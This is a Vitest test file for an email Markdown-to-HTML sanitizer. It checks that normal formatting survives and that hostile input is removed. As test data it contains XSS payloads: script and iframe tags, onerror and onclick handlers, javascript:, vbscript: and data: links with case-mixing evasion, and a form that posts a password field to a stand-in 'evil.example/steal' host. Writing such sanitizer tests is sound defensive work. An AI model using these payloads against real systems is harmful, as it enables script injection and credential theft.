import { describe, expect, it } from "vitest";
import { markdownToSafeHtml, sanitizeEmailHtml } from "@/lib/email/markdown";

// The allowlist between an administrator's Markdown and every recipient's inbox: hostile input in, nothing
// active out.

describe("the composed email's Markdown", () => {
  it("keeps the formatting people write", () => {
    const html = markdownToSafeHtml("## News\n\nThe **new** page is [live](https://example.com/a?b=1).\n\n- one\n- two");
    expect(html).toContain("<h2>News</h2>");
    expect(html).toContain("<strong>new</strong>");
    expect(html).toContain('<a href="https://example.com/a?b=1" rel="noopener noreferrer" target="_blank">live</a>');
    expect(html).toContain("<li>one</li>");
  });

  it("drops scripts, styles and frames written as raw HTML", () => {
    const html = markdownToSafeHtml('Hi <script>alert(1)</script><style>p{}</style><iframe src="https://evil.example"></iframe> there');
    expect(html).not.toMatch(/<script|alert\(1\)|<style|<iframe/i);
    expect(html).toContain("Hi");
  });

  it("drops event handlers, images and their onerror", () => {
    const html = markdownToSafeHtml('<img src=x onerror="alert(1)"> <p onclick="alert(2)">text</p> ![t](https://tracker.example/p.gif)');
    expect(html).not.toMatch(/onerror|onclick|<img|tracker/i);
    expect(html).toContain("text");
  });

  it("drops javascript:, data: and protocol-relative links but keeps their words", () => {
    for (const href of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<b>x</b>", "//evil.example/x", "vbscript:x"]) {
      const html = markdownToSafeHtml(`[click](${href}) and <a href="${href}">raw</a>`);
      expect(html, href).not.toMatch(/href="(?!https?:|mailto:)/i);
      expect(html, href).not.toMatch(/javascript|vbscript|data:|evil/i);
      expect(html).toContain("click");
    }
  });

  it("drops remote forms and their fields", () => {
    const html = sanitizeEmailHtml(
      '<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example">Go</button></form>',
    );
    expect(html).not.toMatch(/<form|<input|<button|action|evil/i);
  });

  it("keeps merge-field placeholders as text for delivery to fill", () => {
    expect(markdownToSafeHtml("Hello {{firstName}}")).toContain("{{firstName}}");
  });
});
